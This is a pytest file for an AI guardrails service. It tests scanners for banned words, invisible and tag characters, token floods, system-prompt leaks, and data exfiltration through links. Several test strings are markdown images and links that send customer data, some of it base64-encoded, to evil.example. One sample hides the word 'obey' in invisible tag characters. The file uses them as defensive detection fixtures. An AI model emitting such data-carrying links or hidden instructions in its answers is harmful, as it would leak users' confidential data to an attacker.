"""Banned words, the policy's expressions, invisible text, token floods, and what an answer must not carry out."""

from __future__ import annotations

import time

import pytest

from services.guardrails.findings import Reference, Rule
from services.guardrails.scanners.leakage import ExfiltrationScanner, SystemPromptLeakScanner, addresses, is_allowed
from services.guardrails.scanners.patterns import PatternSet
from services.guardrails.scanners.text_rules import (
    BannedWordsScanner,
    InvisibleTextScanner,
    RegexScanner,
    TokenFloodScanner,
    estimate_tokens,
)  # fmt: skip

NOTHING = Reference()


def rule(**options: object) -> Rule:
    return Rule("block", 0.5, fail_closed=True, **options)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("the Project Falcon memo", "Project Falcon"),
        ("PROJECT   falcon!", "PROJECT   falcon"),
        ("projeсt fаlcon", "projeсt fаlcon"),
        ("falconry", None),
    ],
)
def test_banned_words_are_whole_words_in_any_disguise(text: str, place: str | None) -> None:
    spans = BannedWordsScanner().scan(text, rule(words=("project falcon", "C++")), NOTHING)
    assert [text[span.start : span.end] for span in spans] == ([place] if place else [])


def test_banned_words_may_hold_signs() -> None:
    text = "I like C++ a lot"
    [span] = BannedWordsScanner().scan(text, rule(words=("c++",)), NOTHING)
    assert text[span.start : span.end] == "C++"


def test_expressions_are_linear_whatever_they_say() -> None:
    started = time.perf_counter()
    assert RegexScanner().scan("a" * 50_000 + "!", rule(patterns=("(a+)+$", "(a|aa)+b")), NOTHING) == []
    assert time.perf_counter() - started < 2


def test_an_expression_with_look_around_is_refused_by_name() -> None:
    with pytest.raises(ValueError, match=r"\(\?<=x\)y.*look-around"):
        PatternSet(["(?<=x)y"])


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("hi\u200b\u200bthere", "INVISIBLE_CHARACTERS"),
        ("pay \u202eolleh\u202c now", "BIDI_CONTROL"),
        ("hello" + "".join(chr(0xE0000 + ord(char)) for char in "obey"), "TAG_CHARACTERS"),
    ],
)
def test_invisible_text_is_found(text: str, kind: str) -> None:
    spans = InvisibleTextScanner().scan(text, rule(), NOTHING)
    assert {span.kind for span in spans if span.score >= 0.5} == {kind}


@pytest.mark.parametrize(
    "text",
    [
        "👩\u200d💻 works",
        "❤\ufe0f",
        "می\u200cخواهم",
        "क्\u200dष",
        "co\u00adoperate",
        "\ufeffbegin",
        "🏴\U000e0067\U000e0062\U000e007f",
        "plain",
    ],
)
def test_writing_that_needs_invisible_characters_is_let_through(text: str) -> None:
    assert [span for span in InvisibleTextScanner().scan(text, rule(), NOTHING) if span.score >= 0.5] == []


def test_token_limit_and_repetition() -> None:
    scanner = TokenFloodScanner()
    assert scanner.scan("word " * 100, rule(token_limit=50), NOTHING)[0].kind == "TOKEN_LIMIT"
    assert scanner.scan("buy now " * 200, rule(), NOTHING)[0].kind == "REPETITION"
    assert scanner.scan("A" * 1000, rule(), NOTHING)[0].kind == "REPETITION"
    assert scanner.scan("-" * 1000, rule(), NOTHING) == []
    prose = " ".join(f"sentence number {i} says something else about topic {i * 7}" for i in range(100))
    assert scanner.scan(prose, rule(), NOTHING) == []
    assert estimate_tokens("语言模型") == 4


SYSTEM = (
    "You are the assistant of Acme Bank. Never reveal account numbers to anyone who has not been verified. "
    "Offer the premium card to every customer who asks about fees, and do not mention competitors by name."
)


def test_a_quoted_system_prompt_is_found_where_it_stands() -> None:
    quoted = "Never reveal account numbers to anyone who has not been verified."
    answer = f"Sure! My instructions say: {quoted} Anything else?"
    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
    assert span.score >= SystemPromptLeakScanner.default_threshold
    assert answer[span.start : span.end] == quoted.rstrip(".")


@pytest.mark.parametrize(
    "answer", ["Our premium card has no fees.", "I can help every customer with fees.", "", "You are welcome."]
)
def test_an_answer_about_the_same_matter_is_no_leak(answer: str) -> None:
    assert SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM)) == []


@pytest.mark.parametrize(
    "answer",
    [
        "![logo](https://evil.example/p.png?d=account+number+of+the+customer+is+4711+and+more+of+the+same+text)",
        '<img src="https://evil.example/x?q=YWNjb3VudCBudW1iZXIgb2YgdGhlIGN1c3RvbWVyIDQ3MTE=">',
        "[more](https://evil.example/c?d=c2VjcmV0IGZpZ3VyZXMgb2YgdGhlIHF1YXJ0ZXI)",
        "[click](javascript:alert(1))",
        "see https://evil.example/?data=confidential+quarterly+figures",
        "[a]: https://evil.example/a?b=" + "words+that+go+on+" * 8,
    ],
)
def test_addresses_that_carry_data_are_found(answer: str) -> None:
    reference = Reference(prompt="the confidential quarterly figures are below")
    spans = ExfiltrationScanner().scan(answer, rule(), reference)
    assert max(span.score for span in spans) >= 0.5


@pytest.mark.parametrize(
    "answer",
    [
        "see [the docs](https://docs.python.org/3/library/re.html#re.compile)",
        "https://example.org/search?q=python",
        "an ![icon](https://example.org/icon.png)",
        "ratio 3:1, time 10:30, std::vector",
        "as in https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789",
    ],
)
def test_ordinary_links_are_let_through(answer: str) -> None:
    known = addresses(
        "https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789"
    )
    spans = ExfiltrationScanner().scan(answer, rule(), Reference(urls=known))
    assert [span for span in spans if span.score >= 0.5] == []


def test_allowed_hosts_cover_their_sub_domains_only() -> None:
    hosts = frozenset({"example.org"})
    assert is_allowed("https://cdn.example.org/x?d=1", hosts)
    assert not is_allowed("https://example.org.evil.test/x", hosts)
    assert not is_allowed("https://notexample.org/x", hosts)
    assert not is_allowed("https://[broken", hosts)
